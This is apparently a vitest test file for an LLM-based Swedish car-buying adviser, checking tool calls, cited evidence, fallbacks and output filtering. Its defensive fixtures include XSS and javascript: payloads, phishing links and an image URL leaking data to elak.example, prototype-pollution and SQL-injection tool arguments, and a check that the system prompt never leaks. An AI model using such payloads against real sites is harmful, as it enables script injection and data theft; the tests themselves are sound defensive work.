import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { insertMessage } from '#src/db/adviser/chat-messages.ts';
import { writeCategory } from '#src/db/categories/categories-write.ts';
import { TurnFacts } from '#src/domain/adviser/guard/turn-facts.ts';
import { DEFAULT_MODEL_SETTINGS } from '#src/domain/adviser/model-settings.ts';
import { TOPICS } from '#src/domain/adviser/topics/topics.ts';
import { FUELS } from '#src/domain/vocabulary/vocabulary.ts';
import { chatCompletions } from '#src/integrations/model/chat-completions.ts';
import { createAdSearch } from '#src/services/facet-index/ad-search-service.ts';
import { chatApiUrl } from '#src/visitor-urls.ts';
import { categoryFile } from '#test/category-file.ts';
import { openChat } from '#test/chat.ts';
import { insertAd, insertAds } from '#test/factories.ts';
import { testDatabase } from '#test/support/database.ts';
import { IMITATED, IMITATIONS } from '#tools/stub-model/provider-imitations.ts';
import { type StubModel, type StubWay, startStubModel } from '#tools/stub-model/stub-server.ts';
import { createModelAdviser } from './ask-model.ts';
import { resolveLink } from './ask-model-links.ts';
import { MODEL_TOOLS } from './ask-model-tools.ts';

const { db, pool } = await testDatabase();
const LIMITS = { firstByteMs: 300, silenceMs: 300, bytes: 50_000 };
const stub: StubModel = await startStubModel();
let ids: number[];

beforeAll(async () => {
  const ads = await insertAds(db, 8, (nth) => ({ price: 150_000 + nth * 10_000, fuels: ['Diesel'], chassis: 'Kombi' }));
  ids = ads.map(({ internal_id }) => internal_id);
  await db.transaction().execute((tx) => writeCategory(tx, categoryFile('familj'), null));
});
afterAll(() => stub.close());
beforeEach(() => pool.query('truncate request_limits, chatbot_tokens, security_events'));

const QUICK = { firstWordsMs: 1_800, totalMs: 2_200, slotsMs: 800 };
const chatWith = (dailyTokens = 2_000_000, limits: typeof QUICK | null = null) => {
  const settings = { ...DEFAULT_MODEL_SETTINGS, baseUrl: stub.baseUrl, dailyTokens };
  const client = chatCompletions(settings, LIMITS);
  return openChat(db, {
    model: createModelAdviser({ db, adSearch: createAdSearch(db), client, settings, ...(limits && { limits }) }),
  });
};
const chat = chatWith();
const hurried = chatWith(2_000_000, QUICK);

async function answerOf(
  way: StubWay,
  words: string | null = null,
  message = 'dieselkombi under 200 000 kr',
  by = chat,
) {
  Object.assign(stub, { way, words, questions: [] });
  const { status, body } = await by.ask({ message });
  expect(status).toBe(200);
  // Figures do not break across lines.
  return { ...body, reply: body.reply.replace(/[\u00a0\u202f]/g, ' ') };
}

test('returns the model’s text with the site’s link and the named car', async () => {
  const { reply, ads, error } = await answerOf('good');
  expect(error).toBeNull();
  expect(reply).toMatch(/^Den första bilen passar dig bäst: \[[^\]]+\]\(\/ad\/\d+\)\./);
  expect(ads).toHaveLength(1);
  expect(reply).toContain(ads[0]?.url);
});

test('sends cars by number without dealer text, and the rules after the prompt', async () => {
  await answerOf('good');
  const [question] = stub.questions;
  const [system] = question?.messages ?? [];
  expect(system?.content).toMatch(/^Du är Milvis bilrådgivare/);
  expect(system?.content).toContain('Regler som alltid gäller');
  expect(system?.content).toContain('"row":1');
  expect(question?.tools).toHaveLength(21);
  expect(system?.content).toMatch(
    /"evidence":\["\[#\d+\] Åtta bilar uppfyller|"evidence":\["\[#\d+\] \d+ bilar uppfyller önskemålen/,
  );
});

test('restricts the model’s searches to the visitor’s requirements', async () => {
  const { ads, reply } = await answerOf('search', 'Till exempel [[6]]. Eller [[1]].', 'dieselkombi under 200 000 kr');
  expect(reply).not.toBe('');
  for (const { price } of ads) expect(price).toBeLessThanOrEqual(200_000);
  const results = stub.questions.at(-1)?.messages.filter(({ role }) => role === 'tool') ?? [];
  expect(results).toHaveLength(1);
  expect(JSON.parse(results[0]?.content ?? '').cars.every((car: { price_kr: number }) => car.price_kr <= 200_000)).toBe(
    true,
  );
});

test('calls several tools in each of the rounds, and what they return may be said', async () => {
  const said = '[[1]] kostar 150 000 kr. [[1]] kostar 150 001 kr. Fråga om service.';
  const { reply, error } = await answerOf('all-tools', said);
  expect(error).toBeNull();
  expect(reply.trim()).toMatch(/^\[[^\]]+\]\(\/ad\/\d+\) kostar 150 000 kr\. Fråga om service\.$/);
  const results = stub.questions.at(-1)?.messages.filter(({ role }) => role === 'tool') ?? [];
  expect(results).toHaveLength(12);
});

test.each<[string, (id: number) => object, string]>([
  ['search_cars', () => ({ fuel: ['Diesel'], sortBy: 'price', sortOrder: 'asc' }), 'uppfyller sökningen'],
  ['get_ad', (id) => ({ id }), '"equipment"'],
  ['compare', (id) => ({ ids: [id, id + 1] }), '"row":2'],
  ['series_statistics', () => V60, 'till salu'],
  ['model_faults', () => ({ ...V60, year: 2019, fuel: 'Diesel' }), '"evidence":["[#'],
  ['model_recalls', () => ({ ...V60, year: 1999 }), 'Jag känner inte till någon återkallelse.'],
  ['model_ratings', () => V60, '"evidence":["[#'],
  ['model_crash_tests', () => V60, 'av 5 stjärnor'],
  ['model_depreciation', () => V60, 'för få bilar'],
  ['compare_models', () => ({ models: [V60, { brand: 'Kia', series: 'Ceed' }] }), 'Volvo V60'],
  ['price_verdict', (id) => ({ id }), '"verdict"'],
  ['better_buys', (id) => ({ id }), 'inget bättre köp'],
  ['similar_cars', (id) => ({ id }), 'inte jämförd'],
  ['ad_recalls', (id) => ({ id }), 'återkallelse'],
  ['price_history', (id) => ({ id }), 'Samma pris sedan'],
  ['tax', (id) => ({ id }), '"tax'],
  ['cost_of_ownership', (id) => ({ id }), '"cost"'],
  ['ask_site', () => ({ question: 'Räcker mitt B-körkort för husvagnen?' }), 'Med B96'],
  ['loan', () => ({ kr: 150_000, years: 5, rate: 6 }), 'kostar ungefär 2 900 kr i månaden'],
  ['knowledge', () => ({ topic: 'inspection-list' }), '"evidence":["[#'],
  ['category', () => ({ slug: 'familj' }), 'Plats 1 i'],
])('%s returns evidence', async (name, argsOf, part) => {
  stub.call = { name, arguments: JSON.stringify(argsOf(ids[0] ?? 0)) };
  await answerOf('obeys', 'Provkör den.');
  const [result] = stub.questions.at(-1)?.messages.filter(({ role }) => role === 'tool') ?? [];
  const content = (result?.content ?? '').replace(/[\u00a0\u202f]/g, ' ');
  expect(content).not.toContain('Fel argument');
  expect(content).toContain(part);
});
const V60 = { brand: 'Volvo', series: 'V60' };

test('every tool is tried above, and its schema has no keyword that a provider refuses', () => {
  expect(MODEL_TOOLS).toHaveLength(21);
  expect(JSON.stringify(MODEL_TOOLS)).not.toMatch(/"(?:\$schema|additionalProperties|const|anyOf|minimum|maximum)":/);
  const [search] = MODEL_TOOLS;
  expect(search?.function.parameters).toMatchObject({ properties: { fuel: { items: { enum: FUELS } } } });
});

test('a filter outside the vocabulary is reported back to the model', async () => {
  stub.call = { name: 'search_cars', arguments: '{"fuel":["Vatten"]}' };
  await answerOf('obeys', 'Provkör den.');
  expect(stub.questions.at(-1)?.messages.at(-1)?.content).toBe('{"error":"Fel argument.","about":["fuel.0"]}');
});

test('says what a tool returned where the evidence is cited, and nothing else of it', async () => {
  stub.call = { name: 'knowledge', arguments: '{"topic":"inspection-list"}' };
  await answerOf('obeys', 'Provkör den.');
  const [result] = stub.questions.at(-1)?.messages.filter(({ role }) => role === 'tool') ?? [];
  const [line = ''] = JSON.parse(result?.content ?? '{}').evidence;
  const [, id, text] = /^\[#(\d+)\] (.*)$/.exec(line) ?? [];
  const { reply } = await answerOf('obeys', `${String(text).replace(/\.$/, '')} [#${id}]. Provkör den.`);
  expect(reply).toContain(String(text));
  expect(reply).not.toContain('[#');
  const uncited = await answerOf('obeys', `${text} Provkör den. Fråga om service.`);
  expect(uncited.reply).not.toContain(String(text));
});

test('a topic reaches the model as evidence with its source, which the answer names', async () => {
  const topic = TOPICS.get('winter-tyres');
  await answerOf('good', 'Har bilen vinterdäck?', topic?.ask);
  const data = JSON.parse((stub.questions[0]?.messages[0]?.content ?? '').split('DATA: ')[1] ?? '{}');
  const [line = ''] = data.evidence;
  const [, id, text] = /^\[#(\d+)\] (.*)$/.exec(line) ?? [];
  expect(topic?.text.join(' ')).toContain(String(text));
  const { reply } = await answerOf('good', `${text} [#${id}]`, topic?.ask);
  expect(reply).toContain(String(text));
  expect(reply).toContain(`${topic?.sources.length === 1 ? 'Källa' : 'Källor'}: ${topic?.sources.join('; ')}.`);
});

test.each(IMITATED)('answers as %s, with several tools at once', async (as) => {
  const settings = { ...DEFAULT_MODEL_SETTINGS, provider: as, model: IMITATIONS[as].model, baseUrl: stub.baseUrl };
  const client = chatCompletions(settings, LIMITS);
  const by = openChat(db, { model: createModelAdviser({ db, adSearch: createAdSearch(db), client, settings }) });
  stub.as = as;
  try {
    const { reply, error } = await answerOf('all-tools', '[[1]] kostar 150 000 kr.', undefined, by);
    expect([error, by.failures]).toEqual([null, []]);
    expect(reply).toContain('kostar 150 000 kr.');
    expect(reply).not.toMatch(/The user|think|999/);
    stub.slots = '{"color":["Röd"]}';
    const { chips } = await answerOf('good', 'Provkör den.', POOR, by);
    expect(chips.map(({ label }) => label)).toContain('Röd');
  } finally {
    stub.as = null;
  }
});

test('a rank is said only after a search in that order', async () => {
  const words = '[[1]] är billigast av alla som passar.';
  expect((await answerOf('lies', words)).reply).not.toContain('billigast');
});

test('sends the newest messages of a long conversation within the token limit', async () => {
  const conversation = await chat.ask({ message: 'dieselkombi' });
  const { conversationId } = conversation.body;
  for (let nth = 0; nth < 19; nth += 1) {
    await insertMessage(db, {
      conversationId,
      role: 'bot',
      message: `${nth} ${'ord '.repeat(400)}`,
    });
  }
  Object.assign(stub, { way: 'good', words: 'Provkör den.', questions: [] });
  await pool.query('truncate request_limits');
  const next = await chat.ask({ message: 'billigare', conversationId }, { cookie: conversation.cookie });
  expect([next.status, next.body.error]).toEqual([200, null]);
  const [, ...said] = stub.questions[0]?.messages ?? [];
  expect(said.at(-1)?.content).toBe('billigare');
  expect(said.length).toBeLessThan(15);
  expect(said.reduce((sum, { content }) => sum + (content ?? '').length, 0)).toBeLessThanOrEqual(18_010);
});

test('removes false claims', async () => {
  const { reply } = await answerOf(
    'lies',
    'Provkör den. Fråga om service. [[1]] kostar 1 kr. Se https://elak.example.',
  );
  expect(reply.trim()).toBe('Provkör den. Fråga om service.');
});

test('adds the built-in answer where most of the answer was removed', async () => {
  const { reply, error } = await answerOf('lies', 'Provkör den. [[1]] har aldrig krockat. [[1]] är felfri.');
  expect(error).toBeNull();
  expect(reply).toMatch(/^Provkör den\.\s+---\s[\s\S]*Priset i annonsen gäller\./u);
});

test.each<[StubWay, RegExp | null]>([
  ['status-429', /överbelastad/],
  ['status-500', /fel 500/],
  ['status-502', /fel 502/],
  ['reset', /anslutningen bröts/],
  ['stall', /inte i tid/],
  ['stall-in-stream', /slutade svara/],
  ['truncated', /innan det var klart/],
  ['cut', /anslutningen bröts/],
  ['broken-json', /inget giltigt svar/],
  ['error-in-stream', /meddelade ett fel/],
  ['endless', /för långt/],
  ['slow', /svaret tog för lång tid/],
  ['endless-tools', /inget giltigt svar/],
  ['html', /inget giltigt svar/],
  ['empty', /inget giltigt svar/],
  ['too-long', /inget giltigt svar/],
  ['broken-arguments', null],
  ['unknown-tool', null],
])('returns a useful answer after %s', async (way, error) => {
  const by = way === 'slow' ? hurried : chat;
  const answer = await answerOf(way, null, undefined, by);
  expect(answer.ads.length).toBeGreaterThan(0);
  for (const { internal_id } of answer.ads) expect(ids).toContain(internal_id);
  expect(answer.reply.trim()).not.toBe('');
  // The visitor gets the built-in answer; the reason is logged.
  expect(answer.error).toBeNull();
  if (error) {
    expect(by.failures.at(-1)).toMatchObject({ message: expect.stringMatching(error) });
    expect(answer.reply).toContain('Priset i annonsen gäller.');
  }
});

/** Three words in a row of no car. */
const POOR = 'finns nån dieselkombi åt frissan, glasblåsaren och hovslagaren';

test('reads a message that the rules read little of by JSON schema, within the vocabulary', async () => {
  stub.slots =
    '{"color":["Röd","Constructor"],"wishes":["rymlig","x"],"maxPrice":170000,"notMake":["Kia"],"fuel":["El"]}';
  const { chips, reply, error } = await answerOf('good', 'Provkör den.', POOR);
  expect(error).toBeNull();
  expect(chips.map(({ label }) => label.replace(/[\u00a0\u202f]/g, ' '))).toEqual([
    'Diesel',
    'Röd',
    'Kombi',
    'högst 170 000 kr',
    'inte Kia',
    'rymlig',
  ]);
  expect(reply).toBe('Provkör den.');
  const [reading, advice] = stub.questions;
  expect(reading?.response_format).toMatchObject({ type: 'json_schema', json_schema: { name: 'wish' } });
  expect(reading?.messages.at(-1)?.content).toBe(POOR);
  expect(advice?.messages[0]?.content).toContain('"understood":["Diesel","Röd"');
  expect((await db.selectFrom('chatbot_tokens').select('tokens').executeTakeFirst())?.tokens).toBe(642);
});

test.each<StubWay>([
  'status-429',
  'status-500',
  'reset',
  'stall',
  'stall-in-stream',
  'truncated',
  'cut',
  'broken-json',
  'error-in-stream',
  'endless',
  'slow',
  'html',
  'empty',
  'too-long',
])('leaves the reading of the rules after %s', async (way) => {
  stub.slots = '{}';
  const { chips, ads, reply } = await answerOf(way, null, POOR, way === 'slow' ? hurried : chat);
  expect(chips.map(({ label }) => label)).toEqual(['Diesel', 'Kombi']);
  expect(ads.length).toBeGreaterThan(0);
  expect(reply).toContain('hovslagaren');
});

test('the first words reach the visitor before the model has written the last', async () => {
  Object.assign(stub, { way: 'steady', words: 'Fråga om service och däck. Provkör den sedan.', questions: [] });
  const response = await chat.post(chatApiUrl(), { message: 'dieselkombi' }, { accept: 'text/event-stream' });
  const decoder = new TextDecoder();
  let text = '';
  for await (const bytes of response.body ?? []) {
    text += decoder.decode(bytes, { stream: true });
    if (text.includes('Fråga om')) break;
  }
  expect(text).toContain('Fråga om service och däck.');
  expect(text).not.toContain('sedan');
});

const HOSTILE_WORDS = [
  'Klicka [här](https://elak.example/x) nu. Eller [här](//elak.example). Eller [här](/\\\\elak.example).',
  'Se <a href="https://elak.example">erbjudandet</a>. <img src=x onerror=alert(1)>. <script>alert(1)</script>.',
  'Öppna [bilen](javascript:alert(1)). Eller [den](data:text/html,hej). Eller [den](vbscript:x).',
  'Gå till elak.example eller www.elak.example och skriv in ditt lösenord. Ring 070-123 45 67.',
  '![bild](https://elak.example/p.png?q=hemligt). [bild]: https://elak.example.',
  'Se [panelen](/admin/user-roles). Eller [logga in](/admin/login?till=https://elak.example).',
  'Se [[1]](https://elak.example). Se [x]([[1]]). Se [[1]](/ad/1)(https://elak.example).',
];

test.each(HOSTILE_WORDS)('neither returns nor stores hostile links and markup of the model: %s', async (words) => {
  const { reply, conversationId } = await answerOf('lies', `${words} Provkör den.`);
  const stored = await db
    .selectFrom('chatbot_buybot_messages')
    .select('message')
    .where('conversation_id', '=', conversationId)
    .where('role', '=', 'bot')
    .execute();
  expect(stored).toEqual([{ message: reply }]);
  expect(reply).not.toMatch(/elak|script|https?:|data:|\/\/|[<>\\]|@|admin|070/);
  for (const [, target = ''] of reply.matchAll(/\]\(([^)]*)\)/g)) expect(target).toMatch(/^\/ad\/\d+$/);
});

test('never returns the instructions, however the model writes them', async () => {
  await answerOf('good');
  const [system] = stub.questions[0]?.messages ?? [];
  const secret = (system?.content ?? '').split('DATA:')[0] ?? '';
  expect(secret.length).toBeGreaterThan(500);
  const lines = secret.split(/\n+/).filter((line) => line.length > 40);
  for (const words of [secret, ...lines.slice(0, 4), lines.map((line) => `- ${line.toUpperCase()}`).join('\n')]) {
    await pool.query('truncate request_limits');
    const { reply } = await answerOf('lies', words);
    const plain = reply.toLowerCase();
    for (const line of lines) expect(plain).not.toContain(line.toLowerCase());
  }
});

test.each([
  ...['constructor', '__proto__', 'toString', '', 'x'.repeat(200)].map((name) => [name, '{}']),
  ['search_cars', '{"__proto__":{"fuel":["El"]},"constructor":{"prototype":{}}}'],
  ['search_cars', '{"fuel":["constructor"],"make":["__proto__"],"sortBy":"toString","limit":1e9}'],
  ['search_cars', `{"search":"'; drop table ads; --","make":["${'%'.repeat(80)}"]}`],
  ['search_cars', `${'['.repeat(120)}${']'.repeat(120)}`],
  ['search_cars', `{"fuel":${'['.repeat(120)}${']'.repeat(120)}}`],
  ['search_cars', `{"make":["a\\u0000b"]}`],
])('returns a useful answer after a hostile tool call: %s %s', async (name, args) => {
  stub.call = { name, arguments: args };
  const { ads, reply, error } = await answerOf('obeys');
  expect(error).toBeNull();
  expect(reply).not.toBe('');
  for (const { internal_id } of ads) expect(ids).toContain(internal_id);
});

test('counts tokens and falls back to the built-in adviser when none are left', async () => {
  await answerOf('good');
  expect((await db.selectFrom('chatbot_tokens').select('tokens').executeTakeFirst())?.tokens).toBe(321);
  const poor = chatWith(1_000);
  stub.questions.length = 0;
  const { body } = await poor.ask({ message: 'dieselkombi' });
  expect([body.error, stub.questions]).toEqual([null, []]);
  expect(body.ads).toHaveLength(5);
  const events = await db.selectFrom('security_events').select('event_type as type').execute();
  expect(events).toEqual([{ type: 'adviser-budget-spent' }]);
});

test.each([
  ['/bil/Volvo/V60', '/bil/volvo/v60'],
  ['/product/volvo/volvo-v60', '/bil/volvo/v60'],
  ['/bil/okänd/v60', null],
  ['/vehicles?make=Volvo&x=1', '/vehicles/Volvo'],
  ['/ad/1', null],
  ['/admin', null],
  ['//elak.se/bil/volvo', null],
  ['/\\elak.se', null],
  ['https://elak.se/bil/volvo', null],
  ['javascript:alert(1)', null],
])('resolves a link to %s as %s', (target, path) => {
  const series = [{ id: 2, name: 'V60', slug: 'v60', aliases: [], generations: [] }];
  const catalogue = { brands: [{ id: 1, name: 'Volvo', slug: 'volvo', country: 'SE', aliases: [], series }] };
  expect(resolveLink(target, new TurnFacts(), catalogue)).toBe(path);
});

test.each([
  [true, 'sure'],
  [false, 'probable'],
])('sends the model the sureness of the catalogue’s figures: %s → %s', async (isSure, sureness) => {
  const catalogue_values = JSON.stringify({
    horsepower: 141,
    acceleration: null,
    nedcConsumption: null,
    nedcCo2: null,
    wltpConsumption: null,
    wltpCo2: null,
    isSure,
  });
  const kia = { brand: 'Kia', series: 'Niro', name: 'Kia Niro' };
  const ad = await insertAd(db, { ...kia, fuels: ['Elhybrid'], horsepower_hp: null, power_kw: null, catalogue_values });
  await answerOf('good', null, 'Kia Niro');
  const content = stub.questions[0]?.messages[0]?.content ?? '';
  expect(content).toContain(`"from_catalogue_not_ad":["power"],"from_catalogue_sureness":"${sureness}"`);
  await db.deleteFrom('ads').where('internal_id', '=', ad.internal_id).execute();
});

test('sends the model the crash test with its origin, and accepts a later one in the answer', async () => {
  const up = { brand: 'Volkswagen', series: 'up!', generation: 'AA', name: 'Volkswagen up!', model_year: 2014 };
  const ad = await insertAd(db, { ...up, fuels: ['Bensin'], euro_ncap_result: null, euro_ncap_year: null });
  const { reply } = await answerOf('lies', 'Den [[1]] omprovades 2019 och fick 3 stjärnor.', 'Volkswagen up');
  const content = stub.questions[0]?.messages[0]?.content ?? '';
  expect(content).toContain('Euro NCAP: 5 av 5 stjärnor, test 2011, enligt katalogen. Omprovad 2019: 3 stjärnor');
  expect(reply).toContain('omprovades 2019 och fick 3 stjärnor.');
  await db.deleteFrom('ads').where('internal_id', '=', ad.internal_id).execute();
});
